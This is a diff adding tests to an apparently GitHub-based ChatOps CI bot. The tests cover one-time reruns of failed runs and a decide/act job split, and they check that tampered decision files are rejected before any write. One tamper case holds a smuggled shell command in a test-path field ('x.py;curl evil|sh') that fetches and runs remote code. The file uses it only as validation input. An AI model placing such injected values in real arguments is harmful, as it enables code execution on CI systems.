@@ -128,6 +128,16 @@ def test_the_cli_dispatches_and_replies_once_when_the_answer_is_lost(tmp_path, s
     assert github.state.dispatches[0]["inputs"]["reply_comment_id"] == str(next(iter(github.state.comments)))
 
 
+@pytest.mark.parametrize("fault", FAULT_KINDS)
+def test_a_failed_run_is_rerun_once_when_the_answer_is_lost(tmp_path, sglang_repo, permissions_file, github, fault):
+    github.state.slow_seconds = 1.5
+    github.state.runs.append({"id": 7, "head_sha": github.state.head_sha, "status": "completed",
+                              "conclusion": "failure"})
+    github.fault_after("POST", r"/actions/runs/7/rerun-failed-jobs$", fault)
+    _, done = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-failed-ci")
+    assert done.failed == [] and github.state.runs[0]["reruns"] == 1 and len(github.replies()) == 1
+
+
 def test_handling_the_same_comment_twice_writes_nothing_twice(tmp_path, sglang_repo, permissions_file, github):
     """A re-run of the ChatOps job (or a duplicate delivery) finds its reply and its runs."""
     for _ in range(2):
@@ -353,3 +363,43 @@ def test_a_hostile_event_file_exits_2_from_the_console_script(tmp_path, permissi
                           env={**os.environ, "PYTHONPATH": str(REPO)}, cwd=REPO)
     assert proc.returncode == 2 and "Traceback" not in proc.stderr
     assert "nested deeper than 64 levels" in proc.stderr
+
+
+# --- the workflow's two jobs: decide (reads, has the PR tree) and act (writes, never sees it) ----------
+
+def decide(tmp_path, sglang_repo, permissions_file, github, body="/rerun-test test_eagle_small.py test_dspark_tp8.py"):
+    event = write_event(tmp_path, event_payload(body))
+    decision = tmp_path / "decision.json"
+    code = main(["chatops", "--event", str(event), "--repo-root", str(sglang_repo), "--permissions",
+                 str(permissions_file), "--head-sha", github.state.head_sha, "--decision-out", str(decision)])
+    return code, event, decision
+
+
+def test_the_decide_job_writes_nothing_and_the_act_job_carries_it_out(capsys, tmp_path, sglang_repo,
+                                                                     permissions_file, github):
+    code, event, decision = decide(tmp_path, sglang_repo, permissions_file, github)
+    assert code == 0 and decision.exists()
+    assert [m for _, m, _ in github.state.requests if m != "GET"] == []
+    assert main(["chatops", "--event", str(event), "--carry-out", str(decision)]) == 0
+    assert len(github.replies()) == 1 and len(github.state.dispatches) == 2
+    assert {d["inputs"]["sha"] for d in github.state.dispatches} == {github.state.head_sha}
+
+
+@pytest.mark.parametrize("tamper, what", [
+    pytest.param(lambda d: d["plan"]["actions"][0].update(workflow="release.yml"), "never plans", id="other-workflow"),
+    pytest.param(lambda d: d["plan"]["actions"][0]["inputs"].update(tests='[["x.py;curl evil|sh"]]'), "never plans",
+                 id="unsafe-test-path"),
+    pytest.param(lambda d: d["plan"]["actions"].append({"type": "add_label", "label": "approved", "says": ""}),
+                 "never plans", id="other-label"),
+    pytest.param(lambda d: d["plan"].update(pr=1), "about another comment", id="other-pr"),
+    pytest.param(lambda d: d.update(exit_code=99), "not one of ours", id="exit-code"),
+])
+def test_a_decision_that_chatops_would_never_make_is_refused_before_any_write(capsys, tmp_path, sglang_repo,
+                                                                              permissions_file, github, tamper, what):
+    _, event, decision = decide(tmp_path, sglang_repo, permissions_file, github)
+    data = json.loads(decision.read_text())
+    tamper(data)
+    decision.write_text(json.dumps(data))
+    code = main(["chatops", "--event", str(event), "--carry-out", str(decision)])
+    assert code == 2 and what in capsys.readouterr().err
+    assert github.state.comments == {} and github.state.dispatches == [] and github.state.labels == []
